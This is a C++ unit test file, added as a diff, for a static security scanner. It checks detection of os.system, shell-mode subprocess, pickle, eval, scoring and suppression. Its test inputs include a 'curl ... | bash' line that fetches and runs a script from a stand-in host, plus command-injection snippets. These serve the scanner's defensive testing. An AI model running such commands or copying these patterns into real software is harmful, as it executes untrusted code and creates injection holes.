@@ -1,0 +1,145 @@
+// Engine::load / scan through the public interface: structure not text, import aliases,
+// suppression, scoring, errors.
+#include <catch2/catch.hpp>
+
+#include <algorithm>
+#include <filesystem>
+#include <fstream>
+
+#include "patterns/patterns.hpp"
+#include "tests/patterns/test_engine.hpp"
+
+using namespace riemann::patterns;
+using riemann::patterns::test::rules_dir;
+
+namespace {
+
+std::shared_ptr<const Engine> load_engine() {
+  auto e = Engine::load(rules_dir());
+  REQUIRE(e.has_value());
+  return e.value();
+}
+
+SecurityReport scan_one(const Engine& e, const std::string& lang, const std::string& code) {
+  auto r = e.scan(lang, {SourceFile{"main", code}});
+  REQUIRE(r.has_value());
+  return r.value();
+}
+
+bool has_rule(const SecurityReport& r, const std::string& id) {
+  return std::any_of(r.issues.begin(), r.issues.end(),
+                     [&](const Issue& i) { return i.rule_id == id && !i.suppressed; });
+}
+
+}  // namespace
+
+TEST_CASE("a comment or a string mentioning os.system is not a call", "[patterns][engine]") {
+  auto e = load_engine();
+  const auto r = scan_one(*e, "python",
+                          "import os\n"
+                          "# os.system(cmd) would be dangerous\n"
+                          "print(\"os.system(cmd)\")\n"
+                          "doc = '''os.system(user_input)'''\n");
+  CHECK_FALSE(has_rule(r, "py.os-system"));
+  CHECK(r.level == "secure");
+  CHECK(r.score == Approx(1.0));
+}
+
+TEST_CASE("an aliased import is resolved: from os import system as s; s(x)",
+          "[patterns][engine]") {
+  auto e = load_engine();
+  const auto r = scan_one(*e, "python", "from os import system as s\ns(x)\n");
+  REQUIRE(has_rule(r, "py.os-system"));
+  const auto& issue = r.issues.front();
+  CHECK(issue.line == 2);
+  CHECK(issue.column == 1);
+  CHECK(issue.severity == "critical");
+  CHECK(issue.cwe == "CWE-78");
+  CHECK(issue.snippet == "s(x)");
+  CHECK(issue.file == "main");
+  CHECK(r.has_critical());
+  CHECK(r.level == "critical");
+  CHECK(r.score < 0.5);
+}
+
+TEST_CASE("module aliases resolve too: import subprocess as sp", "[patterns][engine]") {
+  auto e = load_engine();
+  const auto r = scan_one(*e, "python", "import subprocess as sp\nsp.call(cmd, shell=True)\n");
+  CHECK(has_rule(r, "py.subprocess-shell"));
+}
+
+TEST_CASE("a nosec comment suppresses the finding on its line and reports it as suppressed",
+          "[patterns][engine]") {
+  auto e = load_engine();
+  const auto r = scan_one(*e, "python", "import pickle\nobj = pickle.loads(data)  # nosec B301\n");
+  const auto it = std::find_if(r.issues.begin(), r.issues.end(),
+                               [](const Issue& i) { return i.rule_id == "py.pickle"; });
+  REQUIRE(it != r.issues.end());
+  CHECK(it->suppressed);
+  CHECK_FALSE(r.has_critical());
+  CHECK(r.level != "critical");
+}
+
+TEST_CASE("bash rules: eval of a variable and curl | sh", "[patterns][engine]") {
+  auto e = load_engine();
+  const auto r = scan_one(*e, "bash", "#!/bin/bash\n# eval \"$x\"\necho 'eval $x'\neval \"$1\"\n");
+  REQUIRE(has_rule(r, "sh.eval"));
+  CHECK(std::count_if(r.issues.begin(), r.issues.end(),
+                      [](const Issue& i) { return i.rule_id == "sh.eval"; }) == 1);
+  CHECK(r.issues.front().line == 4);
+  CHECK(has_rule(scan_one(*e, "sh", "curl -s https://x.example/i.sh | bash\n"),
+                 "sh.pipe-to-shell"));
+}
+
+TEST_CASE("score and level follow the documented formula", "[patterns][engine]") {
+  auto e = load_engine();
+  // One medium/high-confidence finding: score = 1 - 0.15 * 1.0.
+  const auto r = scan_one(*e, "python", "import tempfile\np = tempfile.mktemp()\n");
+  REQUIRE(r.issues.size() == 1);
+  CHECK(r.issues[0].rule_id == "py.mktemp");
+  CHECK(r.score == Approx(0.85));
+  CHECK(r.level == "medium_risk");
+}
+
+TEST_CASE("multi-file submissions report the file of each finding", "[patterns][engine]") {
+  auto e = load_engine();
+  auto r = e->scan("python", {SourceFile{"main.py", "import util\nutil.run()\n"},
+                              SourceFile{"util.py", "import os\ndef run():\n    os.system(c)\n"}});
+  REQUIRE(r.has_value());
+  REQUIRE(r.value().issues.size() == 1);
+  CHECK(r.value().issues[0].file == "util.py");
+  CHECK(r.value().issues[0].line == 3);
+}
+
+TEST_CASE("unknown languages are an error value, not an exception", "[patterns][engine]") {
+  auto e = load_engine();
+  CHECK_FALSE(e->supports("cobol"));
+  CHECK(e->supports("python"));
+  CHECK(e->supports("py"));
+  auto r = e->scan("cobol", {SourceFile{"x", "DISPLAY 'HI'."}});
+  REQUIRE_FALSE(r.has_value());
+  CHECK(r.error().code == Errc::unsupported_language);
+}
+
+TEST_CASE("an invalid rule file fails the load and names the file", "[patterns][engine]") {
+  namespace fs = std::filesystem;
+  const auto dir = fs::temp_directory_path() / "riemann-bad-rules";
+  fs::remove_all(dir);
+  fs::copy(rules_dir(), dir, fs::copy_options::recursive);
+  {
+    std::ofstream out(dir / "security" / "broken.json");
+    out << R"json({"languages": ["python"], "rules": [{"id": "x.bad", "severity": "high",
+      "confidence": "high", "cwe": "CWE-1", "message": "m", "query": "(call (nonexistent_node))",
+      "examples": {"match": ["x()"]}}]})json";
+  }
+  auto e = Engine::load(dir.string());
+  REQUIRE_FALSE(e.has_value());
+  CHECK(e.error().code == Errc::rules_invalid);
+  CHECK(e.error().message.find("broken.json") != std::string::npos);
+  CHECK(e.error().message.find("x.bad") != std::string::npos);
+  fs::remove_all(dir);
+
+  auto missing = Engine::load("/nonexistent/rules");
+  REQUIRE_FALSE(missing.has_value());
+  CHECK(missing.error().code == Errc::rules_invalid);
+}
